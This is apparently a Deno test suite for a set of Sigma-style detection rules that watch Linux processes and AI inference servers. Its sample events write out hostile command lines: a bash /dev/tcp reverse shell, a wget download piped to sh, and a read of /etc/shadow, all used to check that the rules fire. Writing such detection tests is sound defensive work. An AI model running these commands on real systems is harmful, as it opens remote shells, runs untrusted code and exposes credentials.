import { assert, assertEquals } from "@std/assert";
import { evaluate } from "../common/sigma/_evaluate_test_support.ts";
import { ImageReader } from "../common/sigma/_image_test_support.ts";
import { parseDocuments } from "../common/sigma/document.ts";
import { compileRules, type ExampleEvent, readRuleSources } from "../common/sigma/mod.ts";
import { RuleProblem } from "../common/sigma/problem.ts";
import { parseRule, type Rule } from "../common/sigma/rule.ts";

const ROOT = new URL(".", import.meta.url).pathname;
const SOURCES = [
  ...await readRuleSources(`${ROOT}ai`),
  ...await readRuleSources(`${ROOT}linux`),
];
const SET = compileRules(SOURCES);
const READER = new ImageReader(SET.image, SET.fields);
const RULES: readonly Rule[] = SOURCES.flatMap(({ text }) => parseDocuments(text)).map(
  (document) => {
    if (document instanceof RuleProblem) throw document;
    return parseRule(document);
  },
);

function flat(event: ExampleEvent): ReadonlyMap<string, string> {
  return new Map(
    Object.entries(event).flatMap(([key, value]) => value === null ? [] : [[key, value]]),
  );
}

function firing(event: ExampleEvent): readonly string[] {
  return READER.fire(flat(event)).flatMap((index) => SET.rules[index]?.path ?? []).map((path) =>
    path.slice(ROOT.length).replace(".yml", "")
  );
}

Deno.test("the pack loads without a rejection", () => {
  assertEquals(SET.rejected, []);
  assert(SET.rules.length >= 15);
  assertEquals(SET.rules.map(({ id }) => id), RULES.map(({ id }) => id));
});

Deno.test("every rule of the pack says what it is and brings its events", () => {
  for (const rule of SET.rules) {
    const say = (what: string) => `${rule.path}: ${what}`;
    assert(/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/.test(rule.id), say("id"));
    assert(!rule.idDerived, say("id is its own"));
    assert(rule.description.length > 20, say("description"));
    assert(rule.falsepositives.length > 0, say("falsepositives"));
    assert(rule.tags.some((tag) => /^attack\.t\d{4}/.test(tag)), say("ATT&CK technique"));
    assert(rule.tags.every((tag) => /^(attack|atlas)\.[a-z0-9.-]+$/.test(tag)), say("tags"));
    assert(rule.examples.must.length >= 2, say("must"));
    assert(rule.examples.mustNot.length >= 2, say("must_not"));
    assertEquals(rule.unfed, [], say("fields that no record carries"));
  }
});

Deno.test("every rule of the pack fires on its events and on no other, evaluator and image", () => {
  RULES.forEach((rule, index) => {
    const check = (event: ExampleEvent, wanted: boolean) => {
      const say = `${rule.title}: ${JSON.stringify(event)}`;
      assertEquals(evaluate(rule.expression, flat(event)), wanted, `evaluator, ${say}`);
      assertEquals(READER.fire(flat(event)).includes(index), wanted, `image, ${say}`);
    };
    for (const event of rule.examples.must) check(event, true);
    for (const event of rule.examples.mustNot) check(event, false);
  });
});

// Events that stand in no rule file.
const CASES: readonly { readonly rule: string; readonly event: ExampleEvent }[] = [
  {
    rule: "linux/reverse_shell_dev_tcp",
    event: { Image: "/bin/bash", CommandLine: "bash\0-c\0exec 3<>/dev/tcp/198.51.100.2/80" },
  },
  {
    rule: "linux/download_piped_to_shell",
    event: { Image: "/bin/bash", CommandLine: "bash -c wget -O - https://198.51.100.2/i.sh | sh" },
  },
  {
    rule: "linux/exec_world_writable_directory",
    event: { Image: "/usr/bin/dash", ExecFile: "/var/tmp/a/b.sh", CommandLine: "/bin/sh b.sh" },
  },
  {
    rule: "linux/shadow_file_read",
    event: { Image: "/usr/bin/head", CommandLine: "head", TargetFilename: "/etc/shadow" },
  },
  {
    rule: "linux/connect_backdoor_port",
    event: { Image: "/usr/bin/python3", DestinationPort: "1337", Protocol: "tcp" },
  },
  {
    rule: "linux/exec_root_from_user",
    event: { Image: "/usr/local/bin/helper", UserId: "0", ParentUserId: "65534" },
  },
  {
    rule: "ai/inference_server_shell",
    event: {
      Image: "/usr/bin/bash",
      CommandLine: "bash -c whoami",
      ParentImage: "/opt/llama.cpp/llama-server",
    },
  },
];

for (const { rule, event } of CASES) {
  Deno.test(`${rule} fires on an event that is not its own`, () => {
    assert(firing(event).includes(rule), `fired: ${firing(event).join(", ")}`);
  });
}

Deno.test("the pack is silent on ordinary work", () => {
  const ordinary: readonly ExampleEvent[] = [
    { Image: "/usr/bin/ls", CommandLine: "ls -la /tmp", UserId: "1000", ParentUserId: "1000" },
    { Image: "/usr/bin/git", CommandLine: "git push origin main", CurrentDirectory: "/home/a/x" },
    { Image: "/usr/bin/curl", CommandLine: "curl https://example.org/", ExecFile: "/usr/bin/curl" },
    { Image: "/usr/bin/python3.11", CommandLine: "python3 train.py", UserId: "0" },
    { Image: "/usr/bin/bash", CommandLine: "bash -c make | tee build.log", ParentUserId: "0" },
    { Image: "/usr/bin/ssh", DestinationIp: "192.0.2.1", DestinationPort: "22", Protocol: "tcp" },
    { Image: "/usr/sbin/cron", TargetFilename: "/etc/crontab" },
    { Image: "/usr/bin/systemctl", CommandLine: "systemctl restart nginx" },
    { Image: "/usr/local/bin/ollama", CommandLine: "ollama serve", DestinationPort: "443" },
  ];
  for (const event of ordinary) assertEquals(firing(event), [], JSON.stringify(event));
});

Deno.test("the pack watches paths and forces no wide stream for one", () => {
  const { interest } = SET;
  assertEquals(interest.wide.filter(({ why }) => why === "path"), []);
  assertEquals(interest.identity, false);
  assertEquals(interest.kinds, ["exec", "fork", "exit", "connect", "open"]);
  const watched = new Set(interest.watches.map(({ type, path }) => `${type} ${path}`));
  for (const wanted of ["file /etc/shadow", "file /etc/ld.so.preload", "tree /etc/cron.d"]) {
    assert(watched.has(wanted), wanted);
  }
});
